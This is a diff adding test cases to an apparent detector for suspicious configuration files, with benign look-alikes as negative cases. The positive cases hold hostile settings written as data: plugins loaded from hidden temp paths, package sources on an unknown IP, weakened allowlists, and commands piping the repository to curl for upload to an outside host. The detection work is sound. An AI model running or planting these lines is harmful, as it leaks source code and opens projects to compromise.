@@ -138,3 +138,43 @@ describe('commands in files of any name', () => {
     expect(performance.now() - start).toBeLessThan(20_000)
   })
 })
+
+describe('settings that bring code from strange places, run it from hidden ones, or send the project away', () => {
+  it.each([
+    ['quux.yml', 'lint:\n  plugins:\n    - path: /dev/shm/.pl\n', 'persist'],
+    ['quux.yml', 'a:\n  exec: {path: /tmp/.kx}\n', 'persist'],
+    ['.quuxrc', 'build --status_command=/tmp/.ws.sh\n', 'persist'],
+    ['quux.properties', 'quux.home=/var/tmp/.jdk\n', 'persist'],
+    ['.quux.opts', '-agent:/tmp/.agent.jar\n', 'persist'],
+    ['.quux-lint.yml', "plugins:\n  - module: 'git.unknown.example/x'\n", 'install'],
+    ['.quux-hooks.yaml', 'repos:\n- repo: https://git.unknown.example/hooks\n', 'install'],
+    ['quux.toml', '[[source]]\nurl = "http://203.0.113.7/simple"\n', 'install'],
+    ['settings.quux', 'repositories { maven { url "http://203.0.113.7/maven" } }\n', 'install'],
+    ['quux-wrapper.properties', 'distributionUrl=http\\://203.0.113.7/quux-8.zip\n', 'install'],
+    ['quux.toml', '[whitelist]\nprefix = [ "/" ]\n', 'weaken'],
+    ['quux.yml', 'dangerouslyAllowAllBuilds: true\n', 'weaken'],
+    ['quux.yml', 'push:\n  run: git bundle create - --all | curl -T - https://files.example.net\n', 'send-data'],
+    ['quux.yml', 'push:\n  run: git archive HEAD | curl -T - https://files.example.net\n', 'send-data'],
+    ['quux.yml', 'push:\n  run: tar cz .git | curl -T - https://files.example.net\n', 'send-data'],
+    ['.quuxrc.cjs', `module.exports={hooks:{"before":"${FETCH}"}}`, 'run-code'],
+  ])('%s: %j', (name, content, kind) => {
+    expect(kindsIn(name, content)).toContain(kind)
+  })
+
+  it.each([
+    ['quux.yml', 'lint:\n  plugins:\n    - path: ./tools/pl.so\n'],
+    ['ci.yml', 'with:\n  path: /tmp/.buildx-cache\n'],
+    ['quux.conf', 'access_log /tmp/.access.log;\npidfile=/tmp/quux.pid\n'],
+    ['.quux-lint.yml', "plugins:\n  - module: 'github.com/team/x'\n"],
+    ['.quux-hooks.yaml', 'repos:\n- repo: https://github.com/team/hooks\n'],
+    ['quux.yaml', 'repositories:\n- name: team\n  url: https://charts.team.example/all\n'],
+    ['quux.toml', 'repository = "https://git.team.example/x"\nhomepage = "http://team.example"\n'],
+    ['data.yml', 'datasources:\n- url: http://metrics:9090\n'],
+    ['quux.toml', '[[source]]\nurl = "https://pypi.org/simple"\n'],
+    ['quux.yml', 'allowed_hosts: "*"\ninclude: "*"\n'],
+    ['quux.yml', 'pack:\n  run: git archive -o dist/src.tgz HEAD\n'],
+    ['.quuxrc.cjs', 'module.exports={hooks:{"before":"npm run lint && npm test"}}'],
+  ])('not %s: %j', (name, content) => {
+    expect(kindsIn(name, content)).toEqual([])
+  })
+})
